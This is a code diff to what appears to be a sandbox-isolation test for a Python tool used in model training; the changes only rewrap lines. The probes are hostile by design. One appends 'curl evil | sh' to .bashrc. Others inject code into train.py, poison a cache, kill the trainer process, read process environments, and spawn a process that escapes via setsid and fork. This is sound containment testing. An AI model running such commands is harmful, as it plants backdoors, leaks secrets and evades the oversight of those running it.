@@ -166,7 +166,8 @@ run("write_bashrc", f"open({home + '/.bashrc'!r}, 'a').write('curl evil | sh')")
 run("write_train", f"open({project + '/train.py'!r}, 'a').write('import evil')")
 run("poison_cache", f"open({home + '/.cache/appo/search.sqlite'!r}, 'w').write('poison')")
 run("signal_trainer", f"import os, signal\ntry:\n    os.kill({TRAINER}, signal.SIGKILL)\nexcept OSError as e:\n"
-    "    print(type(e).__name__)\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n    print(type(e).__name__)\n"
+    "    print(type(e).__name__)\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError as e:\n"
+    "    print(type(e).__name__)\n"
     "print('after kill -1')")
 run("environ", f"import os\nfor p in (os.getppid(), 1, {TRAINER}):\n    try:\n"
     "        print(p, open(f'/proc/{{p}}/environ', 'rb').read())\n    except OSError as e:\n        print(p, e)\n"
@@ -181,7 +182,8 @@ run("unix_socket", f"import socket\nfor addr in ({W['sock']!r}, '\\0' + {W['abst
     "    s = socket.socket(socket.AF_UNIX)\n    try:\n        s.connect(addr)\n        print('connected', repr(addr))\n"
     "    except OSError as e:\n        print(type(e).__name__)")
 tag = W["tag"]
-run("plant_tmp", f"for d in ('/tmp', '/dev/shm', '.'):\n    open(d + '/appo_leftover_{tag}', 'w').write('x')\nprint('planted')")
+run("plant_tmp", f"for d in ('/tmp', '/dev/shm', '.'):\n    open(d + '/appo_leftover_{tag}', 'w').write('x')\n"
+    "print('planted')")
 run("see_tmp", "import os\nprint([os.listdir(d) for d in ('/tmp', '/dev/shm', '.')])")
 # A leftover process: clears PDEATHSIG, escapes with setsid + fork, and rewrites whatever it can find.
 run("leftover", '''
@@ -217,7 +219,8 @@ def descendants(pid):
             pass
     return out
 time.sleep(0.5)
-res["descendants"] = [open(f"/proc/{p}/cmdline").read()[:80] for p in descendants(TRAINER) if os.path.exists(f"/proc/{p}")]
+res["descendants"] = [open(f"/proc/{p}/cmdline").read()[:80] for p in descendants(TRAINER)
+                      if os.path.exists(f"/proc/{p}")]
 # Memory summed over a call's processes: 4 x 150 MiB against a 256 MiB call limit (each under RLIMIT_AS).
 mem = PythonTool(timeout=20.0, memory_mb=256)
 t0 = time.monotonic()
